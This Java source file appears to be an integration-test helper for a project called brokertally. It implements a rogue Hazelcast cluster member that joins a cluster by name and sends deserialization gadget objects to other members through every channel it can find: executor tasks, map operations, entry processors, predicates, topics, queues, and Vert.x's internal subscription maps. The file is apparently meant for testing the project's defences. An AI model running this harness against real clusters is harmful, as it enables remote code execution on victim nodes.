package brokertally.it.rogue;

import com.hazelcast.cluster.Member;
import com.hazelcast.config.Config;
import com.hazelcast.core.Hazelcast;
import com.hazelcast.core.HazelcastInstance;
import com.hazelcast.map.EntryProcessor;
import com.hazelcast.map.IMap;
import com.hazelcast.multimap.MultiMap;
import com.hazelcast.query.Predicate;
import com.hazelcast.query.Predicates;
import java.io.Serializable;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

/**
 * A member of Hazelcast that knows the name of a cluster, in a process of its own, and sends every gadget on every way on which
 * another member may deserialise it. Ends by itself; prints {@code DONE attempts=N}.
 *
 * <p>Arguments: cluster name, own address, own port, members, directory of the marks, name to be asked for.
 */
public final class RogueMember {
    private static final int PARTITIONS = 31;
    private static final int KEYS = 9;
    private static final long PATIENCE_MILLIS = 700;
    private static final long HOLD_MILLIS = 5_000;

    private final HazelcastInstance hazelcast;
    private final List<Member> victims;
    private final ExecutorService threads = Executors.newCachedThreadPool();
    private int attempts;

    private RogueMember(HazelcastInstance hazelcast) {
        this.hazelcast = hazelcast;
        Member self = hazelcast.getCluster().getLocalMember();
        this.victims = hazelcast.getCluster().getMembers().stream()
                .filter(member -> !member.equals(self))
                .toList();
    }

    public static void main(String[] arguments) {
        try {
            run(arguments);
        } catch (Exception e) {
            e.printStackTrace();
        }
        System.out.flush();
        Runtime.getRuntime().halt(0);
    }

    private static void run(String[] arguments) throws Exception {
        Config config = new Config().setClusterName(arguments[0]);
        config.setProperty("hazelcast.partition.count", Integer.toString(PARTITIONS));
        config.setProperty("hazelcast.phone.home.enabled", "false");
        config.setProperty("hazelcast.operation.call.timeout.millis", "3000");
        config.getNetworkConfig()
                .setPort(Integer.parseInt(arguments[2]))
                .setPublicAddress(arguments[1] + ":" + arguments[2]);
        config.getNetworkConfig().getInterfaces().setEnabled(true).addInterface(arguments[1]);
        config.getNetworkConfig().getJoin().getMulticastConfig().setEnabled(false);
        config.getNetworkConfig().getJoin().getAutoDetectionConfig().setEnabled(false);
        config.getNetworkConfig()
                .getJoin()
                .getTcpIpConfig()
                .setEnabled(true)
                .setMembers(List.of(arguments[3].split(",")));
        RogueMember rogue = new RogueMember(Hazelcast.newHazelcastInstance(config));
        System.out.println("VICTIMS " + rogue.victims.size());
        Map<String, Object> gadgets = Gadgets.all(arguments[4], arguments[5]);
        gadgets.forEach(rogue::send);
        rogue.intoVertxMaps(gadgets);
        System.out.println("DONE attempts=" + rogue.attempts + " gadgets=" + gadgets.size());
    }

    /** A task, predicate and entry processor that brings an object along. */
    record Carrier(Object object)
            implements Callable<String>,
                    Predicate<Object, Object>,
                    EntryProcessor<Object, Object, Object>,
                    Serializable {
        @Override
        public String call() {
            return "called";
        }

        @Override
        public boolean apply(Map.Entry<Object, Object> entry) {
            return true;
        }

        @Override
        public Object process(Map.Entry<Object, Object> entry) {
            return "processed";
        }
    }

    private interface Way {
        void go() throws Exception;
    }

    /** What the others answer, mostly that they refuse, is of no interest. */
    private void attempt(Way way) {
        attempts++;
        Future<?> going = threads.submit(() -> {
            try {
                way.go();
            } catch (Exception | Error refused) {
                System.out.println("refused: " + refused.getClass().getName());
            }
        });
        try {
            going.get(PATIENCE_MILLIS, TimeUnit.MILLISECONDS);
        } catch (Exception late) {
            System.out.println("late: " + late.getClass().getSimpleName());
        }
    }

    private void send(String name, Object gadget) {
        Carrier carrier = new Carrier(gadget);
        IMap<Object, Object> map = hazelcast.getMap("rogue");
        for (Member victim : victims) {
            attempt(() -> hazelcast
                    .getExecutorService("rogue")
                    .submitToMember(carrier, victim)
                    .get(3, TimeUnit.SECONDS));
        }
        for (int key = 0; key < KEYS; key++) {
            String own = name + key;
            attempt(() -> map.set(own, gadget));
            if (key % 3 == 0) {
                attempt(() ->
                        map.submitToKey(own, carrier).toCompletableFuture().get(3, TimeUnit.SECONDS));
            }
        }
        attempt(() -> map.get(name + 0)); // executes here: the control
        attempt(() -> map.keySet(carrier));
        attempt(() -> map.keySet(Predicates.equal("this", (Comparable<?>) (Object) null)));
        attempt(() -> map.keySet(Predicates.and(carrier, carrier)));
        attempt(() -> map.submitToKeys(java.util.Set.of(name + 1, name + 2, name + 3), carrier)
                .toCompletableFuture()
                .get(3, TimeUnit.SECONDS));
        attempt(() -> hazelcast.getTopic("rogue").publish(gadget));
        attempt(() -> hazelcast.getReplicatedMap("rogue").put(name, gadget));
        attempt(() -> hazelcast.getQueue("rogue").offer(gadget));
    }

    /**
     * Into the maps that the others read for every message, under their own names. There is no condition to wait
     * for: how long they stand there is the attack, the victims look at them meanwhile.
     */
    private void intoVertxMaps(Map<String, Object> gadgets) throws InterruptedException {
        MultiMap<Object, Object> subscriptions = hazelcast.getMultiMap("__vertx.subs");
        IMap<Object, Object> places = hazelcast.getMap("__vertx.nodeInfo");
        for (Member victim : victims) {
            String id = victim.getAttribute("__vertx.nodeId");
            gadgets.values().forEach(gadget -> attempt(() -> subscriptions.put("brokertally.node." + id, gadget)));
            gadgets.forEach((name, gadget) -> attempt(() -> places.set(id + name, gadget)));
        }
        System.out.println("HOLDING");
        Thread.sleep(HOLD_MILLIS);
        for (Member victim : victims) {
            String id = victim.getAttribute("__vertx.nodeId");
            gadgets.values().forEach(gadget -> attempt(() -> subscriptions.remove("brokertally.node." + id, gadget)));
        }
    }
}
